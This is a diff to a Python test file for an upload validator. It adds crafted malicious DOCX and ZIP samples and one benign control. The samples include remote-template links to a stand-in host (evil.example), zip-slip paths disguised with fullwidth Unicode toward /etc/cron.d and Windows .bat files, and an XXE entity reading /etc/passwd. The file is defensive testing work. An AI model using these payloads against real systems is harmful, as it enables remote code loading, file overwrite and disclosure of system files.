@@ -52,6 +52,41 @@ _TEMPLATE_RELS = (
     b"</Relationships>"
 )
 
+_SETTINGS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    b'<w:attachedTemplate r:id="rId1"/></w:settings>'
+)
+_TEMPLATE_AS_HYPERLINK_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/hyperlink" Target="\\\\evil.example\\t.dotm" TargetMode="External"/>'
+    b"</Relationships>"
+)
+_LINKED_IMAGE_DOCUMENT = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+    b'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
+    b'<w:body><w:p><w:r><a:blip r:link="rId9"/></w:r></w:p></w:body></w:document>'
+)
+_LINKED_DOCUMENT = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    b'<w:body><w:p><w:hyperlink r:id="rId9"><w:r><w:t>dichvucong.gov.vn</w:t></w:r>'
+    b"</w:hyperlink></w:p></w:body></w:document>"
+)
+_INTERNAL_MODE_URL_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/attachedTemplate" Target="https://evil.example/t.dotm"/>'
+    b"</Relationships>"
+)
+
 
 def zip_of(entries: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
     buffer = io.BytesIO()
@@ -420,6 +455,14 @@ def malicious_corpus() -> list[Bad]:
         Bad("docx-activex", "ax.docx", docx([("word/activeX/activeX1.bin", b"\xd0\xcf")]), "ActiveX"),
         Bad("docx-ole", "ole.docx", docx([("word/embeddings/oleObject1.bin", b"\xd0\xcf")]), "OLE"),
         Bad("docx-xxe", "xxe.docx", docx(document=b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>', extra=[("word/_rels/x.rels", b'<!DOCTYPE r [<!ENTITY a "a">]><r/>')]), "DTD"),
+        Bad("docx-template-typed-as-hyperlink", "mau2.docx", docx([("word/settings.xml", _SETTINGS), ("word/_rels/settings.xml.rels", _TEMPLATE_AS_HYPERLINK_RELS)]), "bên ngoài"),
+        Bad("docx-image-linked-as-hyperlink", "anh.docx", docx(document=_LINKED_IMAGE_DOCUMENT), "bên ngoài"),
+        Bad("docx-template-url-without-mode", "mau3.docx", docx([("word/settings.xml", _SETTINGS), ("word/_rels/settings.xml.rels", _INTERNAL_MODE_URL_RELS)]), "bên ngoài"),
+        Bad("zip-slip-fullwidth", "rong.zip", zip_of([("\uff0e\uff0e\uff0fetc\uff0fcron.d\uff0fx", b"x")]), "ra ngoài thư mục"),
+        Bad("zip-slip-fullwidth-backslash", "rong2.zip", zip_of([("\uff0e\uff0e\uff3cwindows\uff3cx.bat", b"x")]), "ra ngoài thư mục"),
+        Bad("zip-slip-two-dot-leader", "cham.zip", zip_of([("a/\u2025/\u2025/evil.sh", b"x")]), "ra ngoài thư mục"),
+        Bad("zip-fullwidth-absolute", "tuyet.zip", zip_of([("\uff0fetc\uff0fpasswd", b"x")]), "đường dẫn tuyệt đối"),
+        Bad("zip-fullwidth-drive", "o-dia.zip", zip_of([("\uff23\uff1a\uff3cx.bat", b"x")]), "đường dẫn tuyệt đối"),
         Bad("zip-as-docx", "thu.docx", zip_of([("a.txt", b"x")]), "không phải là tệp DOCX"),
         Bad("docx-as-xlsx", "bang.xlsx", good_docx, "không phải là tệp XLSX"),
     ]  # fmt: skip
@@ -445,6 +488,7 @@ def control_set() -> list[Good]:
         Good("png-scan", "ban-quet.png", text_image(["Giấy khai sinh"]), "png"),
         Good("docx-plain", "to-khai.docx", docx(), "docx"),
         Good("docx-vietnamese-name", "Tờ khai đăng ký.docx", docx(), "docx"),
+        Good("docx-with-hyperlink", "lien-ket.docx", docx(document=_LINKED_DOCUMENT), "docx"),
     ]
 
 
